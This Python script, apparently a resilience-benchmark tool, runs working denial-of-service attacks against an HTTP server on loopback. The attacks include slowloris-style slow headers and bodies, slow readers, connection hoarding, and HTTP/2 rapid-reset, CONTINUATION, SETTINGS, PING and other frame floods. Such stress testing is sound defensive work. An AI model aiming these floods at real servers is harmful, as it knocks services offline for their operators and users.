#!/usr/bin/env python3
"""One kind of abuse of an HTTP server, for as long as its standard input is open: `attack.py KIND PORT COUNT [FROM]`.

Prints `ready` when it has begun in earnest, and at the end what became of it, as JSON. Connections come from addresses of the
loopback network, from 127.1.0.FROM on, for one has too few ports; those of a crowd, from as many addresses. Knows nothing about
who is attacked.
"""

import itertools
import json
import resource
import select
import socket
import ssl
import struct
import sys
import time

HOST = b"bench.test"
GET = b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
# Ports of one address that are used.
PORTS = 20_000


class Sockets:
    def __init__(self, port, first, addresses=None):
        self.port, self.first, self.addresses, self.made = port, first, addresses, 0

    def open(self):
        made = socket.socket()
        made.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: many share a port
        place = self.made % self.addresses if self.addresses else self.made // PORTS
        made.bind((f"127.1.{place // 200}.{self.first + place % 200}", 0))
        self.made += 1
        made.connect(("127.0.0.1", self.port))
        return made


def over():
    return bool(select.select([sys.stdin], [], [], 0)[0])


def answer(stream):
    got = b""
    while b"\r\n\r\n" not in got or len(got.split(b"\r\n\r\n", 1)[1]) < 200:
        piece = stream.recv(4096)
        if not piece:
            break
        got += piece
    return got


def idle(sockets, count, context=None):
    """Connections that have asked once, and then say nothing."""
    held = []
    for _ in range(count):
        stream = sockets.open()
        if context:
            stream = context.wrap_socket(stream, server_hostname=HOST.decode())
        stream.sendall(GET)
        if b" 200 " not in answer(stream):
            raise SystemExit("no answer")
        held.append(stream)
    print("ready", flush=True)
    sys.stdin.read()
    gone = 0
    for stream in held:
        stream.setblocking(False)
        try:
            gone += stream.recv(1) == b""
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            gone += 1
    return {"open": count - gone, "closed": gone}


def idle_tls(sockets, count):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return idle(sockets, count, context)


def hold(sockets, count, first, each, pause):
    """Connections that begin with `first` and go on with `each`, one octet per `pause` seconds, one after the other; whoever is
    closed comes again."""
    def begin():
        stream = sockets.open()
        stream.sendall(first)
        stream.setblocking(False)
        return stream

    held, closed, last = [begin() for _ in range(count)], 0, time.monotonic()
    print("ready", flush=True)
    for octet in itertools.cycle(each):
        for part in range(100):
            last += pause / 100
            time.sleep(max(0, last - time.monotonic()))
            if over():
                return {"held": len(held), "closed": closed}
            for place in range(part, count, 100):
                try:
                    held[place].send(bytes([octet]))
                except BlockingIOError:
                    pass
                except OSError:
                    closed += 1
                    held[place].close()
                    held[place] = begin()


def slow_heads(sockets, count):
    return hold(sockets, count, b"GET / HTTP/1.1\r\nHost: bench.test\r\nX-A: ", b"abcdefgh", 5)


def slow_bodies(sockets, count):
    return hold(sockets, count, b"POST /up HTTP/1.1\r\nHost: bench.test\r\nContent-Length: 100000\r\n\r\n", b"x", 5)


def slow_readers(sockets, count):
    """Large answers that are not taken."""
    held = []
    for _ in range(count):
        stream = sockets.open()
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        stream.sendall(b"GET /down HTTP/1.1\r\nHost: bench.test\r\n\r\n")
        held.append(stream)
    print("ready", flush=True)
    sys.stdin.read()
    return {"held": count}


def ask(sockets, count, path):
    """Requests that an instance does not do justice to."""
    held = []
    for _ in range(count):
        stream = sockets.open()
        stream.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: bench.test\r\nAccept-Encoding: br, zstd, gzip\r\n\r\n")
        stream.setblocking(False)
        held.append(stream)
    print("ready", flush=True)
    taken = 0
    poll = select.poll()
    for stream in held:
        poll.register(stream, select.POLLIN)
    streams = {stream.fileno(): stream for stream in held}
    while not over():
        for number, _ in poll.poll(100):
            piece = b""
            try:
                piece = streams[number].recv(1 << 16)
            except OSError:
                pass
            taken += len(piece)
            if not piece:
                poll.unregister(number)
    return {"asked": count, "bytes": taken}


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# GET http / of bench.test, in HPACK.
HEADERS = b"\x82\x86\x84\x41\x0abench.test"


def floods():
    def streams(make):
        return lambda: (b"".join(make(number) for number in range(at, at + 400, 2)) for at in range(1, 1 << 30, 400))

    def same(bytes_):
        return lambda: itertools.repeat(bytes_)

    open_head = frame(1, 1, 1, HEADERS)
    return {
        "rapid_reset": streams(lambda n: frame(1, 5, n, HEADERS) + frame(3, 0, n, struct.pack(">I", 8))),
        "settings": same(frame(4, 0, 0) * 200),
        "ping": same(frame(6, 0, 0, b"12345678") * 200),
        "window": same(frame(8, 0, 0, struct.pack(">I", 1)) * 200),
        "empty_data": lambda: itertools.chain([frame(1, 4, 1, b"\x83" + HEADERS[1:])], same(frame(0, 0, 1) * 200)()),
        "priority": same(frame(2, 0, 3, b"\0\0\0\x01\x10") * 200),
        "continuation": lambda: itertools.chain([open_head], same(frame(9, 0, 1, b"\x40\x01a\x7f\x00" + b"v" * 127) * 50)()),
        "never_taken": lambda: itertools.chain(
            [frame(4, 0, 0, b"\0\x04\0\0\0\0")], (frame(1, 5, n, HEADERS) for n in range(1, 1 << 30, 2))
        ),
    }


def flood(sockets, count, pieces, preface):
    """Connections that send as fast as they are read; whoever is closed comes again."""
    def begin():
        stream = sockets.open()
        stream.sendall(preface)
        stream.setblocking(False)
        return [stream, pieces(), b""]

    sent = connections = 0
    held = {}
    poll = select.poll()
    for _ in range(count):
        one = begin()
        held[one[0].fileno()] = one
        poll.register(one[0], select.POLLIN | select.POLLOUT)
    connections += count
    print("ready", flush=True)
    while not over():
        for number, event in poll.poll(100):
            one = held[number]
            try:
                if event & select.POLLIN and not one[0].recv(1 << 16):
                    raise ConnectionError
                if event & (select.POLLERR | select.POLLHUP):
                    raise ConnectionError
                if event & select.POLLOUT:
                    if not one[2]:
                        one[2] = next(one[1])
                    done = one[0].send(one[2])
                    sent, one[2] = sent + done, one[2][done:]
            except BlockingIOError:
                pass
            except OSError:
                poll.unregister(number)
                del held[number]
                one[0].close()
                one = begin()
                connections += 1
                held[one[0].fileno()] = one
                poll.register(one[0], select.POLLIN | select.POLLOUT)
    return {"connections": connections, "MB": round(sent / 1e6, 1)}


def heads():
    """Heads of 15 KB, for a host that nobody serves and for one."""
    fields = b"".join(b"X-%03d: %s\r\n" % (n, b"v" * 150) for n in range(90))
    return itertools.cycle(b"GET / HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (host, fields) for host in (b"no.test", HOST))


def large_heads():
    return itertools.repeat(b"GET / HTTP/1.1\r\nHost: bench.test\r\nX-Y: " + b"v" * 100_000)


def main():
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    kind, port, count, *first = sys.argv[1:]
    count, is_crowd = int(count), kind.startswith("crowd_")
    sockets, kind = Sockets(int(port), int(first[0]) if first else 1, count if is_crowd else None), kind.removeprefix("crowd_")
    by_name = {"idle": idle, "idle_tls": idle_tls, "slow_heads": slow_heads, "slow_bodies": slow_bodies,
               "slow_readers": slow_readers}
    if kind in by_name:
        result = by_name[kind](sockets, count)
    elif kind in ("hang", "drip", "endless"):
        result = ask(sockets, count, b"/" + kind.encode())
    elif kind in ("heads", "large_heads"):
        result = flood(sockets, count, {"heads": heads, "large_heads": large_heads}[kind], b"")
    else:
        result = flood(sockets, count, floods()[kind], PREFACE)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
